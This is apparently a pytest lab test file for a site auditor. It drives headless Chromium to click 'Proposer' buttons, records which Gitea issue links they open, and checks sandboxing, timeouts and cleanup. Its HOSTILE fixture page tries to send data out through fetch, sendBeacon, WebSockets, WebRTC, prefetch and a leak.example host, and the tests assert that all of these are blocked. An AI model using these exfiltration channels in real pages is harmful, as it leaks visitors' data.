"""The browser itself: nothing of a page leaves it, it ends when it must, and a right site is clicked through."""

import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from gitea_replay import ReplayGitea
from lab_need import lack
from site_look import clicked
from site_nginx import GIT, SITE, run_site
from site_server import SiteServer

from auditor.collectors.nas.click import clicker
from auditor.collectors.nas.serving import ServingReader
from auditor.collectors.nas.slot import SlotAnswer, SlotPages
from auditor.config import Config, Gitea, Site, Slot
from auditor.interfaces import Context, Deadline
from auditor.model.facts.nas import Answer
from auditor.model.facts.snapshot import SCHEMA_VERSION, Snapshot
from auditor.model.missing import MISSING
from auditor.transports.browser import Browser, find_chromium, open_browser
from auditor.transports.browser.fault import BrowserError
from auditor.visitor import Clicked

pytestmark = pytest.mark.lab

BUILT = Path(__file__).parent.parent / "data" / "site" / "astro" / "built"
LINK = "https://git.archicratie.example/Archicratia/archicratie-edition/issues/new"
EXPECTED = ["--expect", f"https://{GIT}", "Archicratia", "archicratie-edition"]
EMPTY = Context(
    config=Config(id="site"),
    seen=Snapshot(
        schema_version=SCHEMA_VERSION,
        tool_version="0",
        id="0",
        site_id="site",
        mode="audit",
        started_at="",
        finished_at="",
        sources=(),
    ),
    state=None,
    deadline=Deadline.after(0),
    now=datetime(2026, 2, 1, tzinfo=UTC),
    progress=lambda _text: None,
)
LOOP = "<button onclick='for(;;);'>Proposer</button>"
HOSTILE = """<!doctype html><title>x</title>
<link rel=preconnect href="http://{there}/pre"><link rel=dns-prefetch href="//leak.example">
<link rel=prefetch href="http://{there}/prefetch"><link rel=stylesheet href="http://{there}/a.css">
<img src="http://{there}/a.png"><iframe src="http://{there}/frame"></iframe><script src="http://{there}/a.js"></script>
<form id=f method=post action="/post"><button>Envoyer</button></form>
<button id=p>Proposer</button>
<script>
  fetch("http://{there}/fetch", {{method: "POST", body: document.title}}).catch(() => 0);
  fetch("/own", {{method: "POST"}}).catch(() => 0);
  navigator.sendBeacon("http://{there}/beacon", "x");
  new EventSource("http://{there}/events");
  try {{ new WebSocket("ws://{there}/socket") }} catch {{}}
  try {{ new RTCPeerConnection({{iceServers: [{{urls: "stun:{there}"}}]}}).createOffer() }} catch {{}}
  navigator.serviceWorker && navigator.serviceWorker.register("/sw.js").catch(() => 0);
  document.getElementById("p").onclick = () => {{ open("http://{there}/popup"); open("{link}"); }};
</script>"""


@contextmanager
def listener() -> Iterator[tuple[str, list[str]]]:
    """A place that nobody may connect to, and who did."""
    met: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)
        over = threading.Event()

        def wait() -> None:
            while not over.is_set():
                with suppress(TimeoutError):
                    met.append(server.accept()[0].recv(200).decode("utf-8", "replace"))

        thread = threading.Thread(target=wait)
        thread.start()
        yield f"127.0.0.1:{server.getsockname()[1]}", met
        over.set()
        thread.join()


def test_nothing_that_a_page_asks_elsewhere_leaves_the_browser(browser: Browser) -> None:
    with listener() as (there, met):
        page = HOSTILE.format(there=there, link=LINK)
        with SiteServer(pages={"/": page}) as site:
            found = clicked(browser, site.url, ["/"])
            time.sleep(0.3)
            asked = list(site.asked)
    assert met == []
    assert "/post" not in asked
    assert "/own" not in asked
    assert [click.url for click in found.clicks] == [f"http://{there}/popup", LINK]
    names = ("a.png", "a.js", "a.css", "fetch", "frame")
    assert {f"http://{there}/{name}" for name in names} <= {*found.clicks[0].blocked}


def test_a_redirect_elsewhere_is_where_the_click_leads_and_is_not_followed(browser: Browser) -> None:
    pages = {
        "/": '<a href="/propose">Proposer</a>',
        "/propose": (302, {"Location": "/there"}, b""),
        "/there": (302, {"Location": f"{LINK}?title=x"}, b""),
    }
    with SiteServer(pages=pages) as site:
        found = clicked(browser, site.url, ["/"])
    assert [(click.url, click.opened_by) for click in found.clicks] == [(LINK, "link")]
    assert found.links[0].title_length == 1


def test_a_link_on_the_own_origin_is_recorded_and_not_asked(browser: Browser) -> None:
    with SiteServer(pages={"/": '<a href="/Acme/site/issues/new">Proposer</a>'}) as site:
        found = clicked(browser, site.url, ["/"])
        assert "/Acme/site/issues/new" not in site.asked
        assert [click.url for click in found.clicks] == [f"{site.url}Acme/site/issues/new"]


@pytest.mark.parametrize(
    ("page", "way"),
    [
        (f'<a href="{LINK}" target=_blank>Proposer</a>', "link"),
        (f"<button onclick=\"window.open('{LINK}')\">Proposer</button>", "window.open"),
        (
            f"<button onclick=\"w=window.open();setTimeout(()=>w.location='{LINK}',50)\">Proposer</button>",
            "window.open",
        ),
        (f"<button onclick=\"location.href='{LINK}'\">Proposer</button>", "navigation"),
        (f'<form action="{LINK}"><input name=title value=x><button>Proposer</button></form>', "form"),
        (f'<form action="{LINK}" method=post><button>Proposer</button></form>', "form"),
        (f"<button onclick=\"navigator.clipboard.writeText('{LINK}')\">Proposer</button>", "clipboard"),
        (
            (
                f"<textarea id=t>{LINK}</textarea>"
                "<button onclick=\"t.select();document.execCommand('copy')\">Proposer</button>"
            ),
            "clipboard",
        ),
    ],
)
def test_each_way_to_open_a_link_is_told(browser: Browser, page: str, way: str) -> None:
    with SiteServer(pages={"/": f"<!doctype html>{page}"}) as site:
        found = clicked(browser, site.url, ["/"])
    assert [(click.url, click.opened_by) for click in found.clicks] == [(LINK, way)]


def test_a_dialog_with_choices_and_a_submit_is_filled_in_and_sent(browser: Browser) -> None:
    page = f"""<!doctype html><button onclick="d.showModal()">Proposer</button><dialog id=d><form id=f>
      <label><input type=radio name=k value=a>Faute</label><label><input type=radio name=k value=b>Idée</label>
      <select name=s><option value="">Choisir</option><option value=x>Texte</option></select>
      <button type=button onclick="d.close()">Annuler</button><button>Continuer</button></form></dialog>
      <script>f.onsubmit = (e) => {{ e.preventDefault(); const v = new FormData(f);
        if (v.get("k") && v.get("s")) open("{LINK}?title=" + v.get("k")) }}</script>"""
    with SiteServer(pages={"/": page}) as site:
        found = clicked(browser, site.url, ["/"])
    assert [click.steps for click in found.clicks if click.url] == [
        ("Proposer", "Faute", "Texte", "Continuer"),
        ("Proposer", "Idée", "Texte", "Continuer"),
    ]


def test_a_button_that_keeps_the_page_busy_is_pressed_once(browser: Browser) -> None:
    page = f"""<!doctype html><button id=b>Proposer</button><script>b.onclick = () => {{
      window.open("{LINK}"); const end = Date.now() + 2500; while (Date.now() < end); }}</script>"""
    with SiteServer(pages={"/": page}) as site:
        found = clicked(browser, site.url, ["/"])
    assert [(click.steps, click.url) for click in found.clicks] == [(("Proposer",), LINK)]


def test_a_configured_flow_is_followed_by_text_and_selector(browser: Browser) -> None:
    page = f"""<!doctype html><p onclick="a.hidden=false">Une remarque ?</p><div hidden id=a>
      <i class=go onclick="window.open('{LINK}')">…</i></div>"""
    with SiteServer(pages={"/": page}) as site:
        found = clicked(browser, site.url, ["/"], flow=("p", ".go"))
    assert [(click.steps, click.url) for click in found.clicks] == [(("p", ".go"), LINK)]


def test_a_page_in_an_endless_loop_costs_that_page_alone(browser: Browser) -> None:
    pages = {"/loop": "<script>for(;;);</script>", "/": f'<a href="{LINK}">Proposer</a>'}
    with SiteServer(pages=pages) as site:
        found = clicked(browser, site.url, ["/loop", "/"])
    assert [click.url for click in found.clicks] == [LINK]
    assert found.fault is not None
    assert "/loop' does not load" in found.fault


def test_a_loop_that_begins_with_the_click_ends_with_the_browsers_time() -> None:
    def press(url: str) -> Clicked:
        with open_browser(8) as short:
            return clicked(short, url, ["/"])

    began = time.monotonic()
    # a driver has its thread for itself
    with ready(), SiteServer(pages={"/": LOOP}) as site, ThreadPoolExecutor() as pool:
        found = pool.submit(press, site.url).result()
    assert found.fault is not None
    assert time.monotonic() - began < 30


@pytest.fixture
def home() -> Iterator[Path]:
    """A home with a short path: Chromium's socket lies below it, and a socket's name has at most 107 bytes."""
    with TemporaryDirectory(prefix="auditor-", dir="/tmp", ignore_cleanup_errors=True) as folder:
        yield Path(folder)


@contextmanager
def ready() -> Iterator[None]:
    """A block that needs a browser of its own."""
    try:
        find_chromium()
    except BrowserError as error:
        lack(str(error))
    yield


def program(home: Path, *arguments: str, **more: str) -> "subprocess.Popen[str]":
    """`auditor proposer` in a home and with a folder for temporary files of its own."""
    (home / "tmp").mkdir(exist_ok=True)
    own = {"HOME": str(home), "TMPDIR": str(home / "tmp"), "XDG_STATE_HOME": str(home / "state")}
    given = {**os.environ, **own, **more}
    command = [sys.executable, "-m", "auditor", "proposer", *arguments]
    return subprocess.Popen(
        command, env=given, cwd=home, text=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True
    )


def processes(marker: Path) -> list[str]:
    """The command lines of running processes that name a folder."""
    found = []
    for file in Path("/proc").glob("[0-9]*/cmdline"):
        with suppress(OSError):
            text = file.read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
            if str(marker) in text:
                found.append(text)
    return found


@pytest.mark.parametrize("version", ["1.25.5", "1.26.4", "1.27.0"])
def test_a_right_site_passes_with_a_recorded_click(home: Path, tmp_path: Path, version: str) -> None:
    with ExitStack() as stack:
        stack.enter_context(ready())
        gitea = stack.enter_context(ReplayGitea(version, "archicratie-edition"))
        site = stack.enter_context(run_site(tmp_path, BUILT / "right", gitea.url))
        process = program(home, "--url", f"https://{SITE}/lazy/", *EXPECTED, *site.options, "-v")
        out, err = process.communicate(timeout=100)
    assert process.returncode == 0, out + err
    print(out)
    told = " ".join(out.split())
    assert f"clicked on /lazy/: Proposer → Corriger un texte → Une faute → {LINK} (window.open)" in told
    assert "folded, clicked" in out
    (picture,) = (home / "state" / "auditor" / "screenshots").iterdir()
    assert picture.read_bytes().startswith(b"\x89PNG")


def test_a_page_of_the_sitemap_is_pressed_for_all_that_are_built_alike(home: Path) -> None:
    """What only a click tells is wrong on pages that nobody configured."""
    chapter = (
        "<!doctype html><title>{}</title><button id=p>Proposer</button><script>p.onclick=async()=>{{"
        "const c=await(await fetch('/c.json')).json();open(`${{c.base}}/${{c.owner}}/site/issues/new`)}}</script>"
    )
    names = ("a", "b", "c")
    with ready(), SiteServer() as site:
        base = site.url.rstrip("/")
        urls = "".join(f"<url><loc>{base}/{name}/</loc></url>" for name in names)
        site.pages |= {f"/{name}/": chapter.format(name) for name in names}
        site.pages |= {
            "/": f'<a class=propose href="{base}/Acme/site/issues/new">Proposer</a>',
            "/sitemap-0.xml": f"<urlset>{urls}</urlset>",
            "/c.json": (200, {"Content-Type": "application/json"}, f'{{"base":"{base}","owner":"Other"}}'.encode()),
        }
        process = program(home, "--url", site.url, "--expect", base, "Acme", "site")
        out, err = process.communicate(timeout=100)
    assert process.returncode == 1, out + err
    assert f"clicked on /: Proposer → {base}/Acme/site/issues/new (link)" in out
    assert f"clicked on /a/: Proposer → {base}/Other/site/issues/new (window.open)" in out
    assert "read, not clicked: /b/ and 1 more: they are built like /a/" in out
    assert "it is not 'Acme'" in out
    assert "clicked on /b/" not in out


def test_without_a_browser_the_same_site_passes_as_reconstructed(home: Path, tmp_path: Path) -> None:
    with ReplayGitea("1.27.0", "archicratie-edition") as gitea, run_site(tmp_path, BUILT / "right", gitea.url) as site:
        options = ["--url", f"https://{SITE}/lazy/", *EXPECTED, *site.options, "-v"]
        said = {}
        for name, arguments, more in (
            ("wanted", ["--no-browser"], {}),
            ("sandbox", [], {"AUDITOR_BROWSER_NO_SANDBOX": ""}),
            ("missing", [], {"PATH": "/nowhere"}),
        ):
            if name == "sandbox" and os.geteuid() != 0:
                continue
            process = program(home, *options, *arguments, **more)
            said[name], err = process.communicate(timeout=100)
            assert process.returncode == 0, said[name] + err
    assert "reconstructed, not clicked: no browser is wanted" in said["wanted"]
    assert "reconstructed, not clicked: there is no Chromium" in said["missing"]
    assert "sandbox does not work for root" in said.get("sandbox", "sandbox does not work for root")


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
def test_an_interrupted_run_leaves_no_browser_and_no_profile(home: Path, number: signal.Signals) -> None:
    with ready(), SiteServer(pages={"/": LOOP}) as site:
        process = program(home, "--url", site.url, "--expect", site.url.rstrip("/"), "Acme", "site")
        wait_for(lambda: bool(processes(home / "tmp")))
        time.sleep(1)
        process.send_signal(number)
        process.communicate(timeout=60)
    assert process.returncode in (130, 143)
    wait_for(lambda: not processes(home / "tmp") and not [*(home / "tmp").iterdir()])


def wait_for(holds: object) -> None:
    deadline = time.monotonic() + 60
    while not (holds() if callable(holds) else holds):
        assert time.monotonic() < deadline
        time.sleep(0.05)


def test_a_slot_is_clicked_on_the_bytes_of_the_visit_alone(tmp_path: Path) -> None:
    """Nothing answers at the site's address: what is pressed are the bytes that the probe brought."""
    config = Config(
        id="site",
        gitea=Gitea(base=f"https://{GIT}", owner="Archicratia", repo="archicratie-edition"),
        site=Site(url=f"https://{SITE}/", pages=("/lazy/",)),
    )
    context = replace(EMPTY, config=config, state=tmp_path, deadline=Deadline.after(60))
    folder = BUILT / "case"
    answers = [answered("/lazy/", folder / "lazy" / "index.html", "text/html")]
    answers += [answered(f"/_astro/{file.name}", file, "text/javascript") for file in (folder / "_astro").iterdir()]
    reader = ServingReader(config, None, lambda: False, clicker(context))
    # a driver has its thread for itself
    with ready(), ThreadPoolExecutor() as pool:
        pages = SlotPages(tuple(answers), "curl", capped=False)
        serving = pool.submit(reader.read, Slot(name="green", port=8082), pages).result().serving
    assert serving.clicks is not MISSING
    assert [click.steps for click in serving.clicks] == [("Proposer", "Corriger un texte", "Une faute")]
    assert {link.owner for link in serving.links if link.tier == "clicked"} == {"archicratia"}
    assert (tmp_path / str(serving.clicks[0].screenshot)).is_file()


def test_a_slot_is_clicked_by_nobody_where_no_browser_is_wanted() -> None:
    config = Config(id="site", site=Site(url=f"https://{SITE}/", browser="never"))
    assert clicker(replace(EMPTY, config=config)) is None
    assert clicker(replace(EMPTY, config=Config(id="site"))) is None


def answered(path: str, file: Path, kind: str) -> SlotAnswer:
    body = file.read_bytes()
    fact = Answer(
        path=path,
        depth=0 if kind == "text/html" else 1,
        status=200,
        content_type=kind,
        location=None,
        etag=None,
        last_modified=None,
        size=len(body),
        sha256=None,
        complete=True,
    )
    return SlotAnswer(fact, (), body)
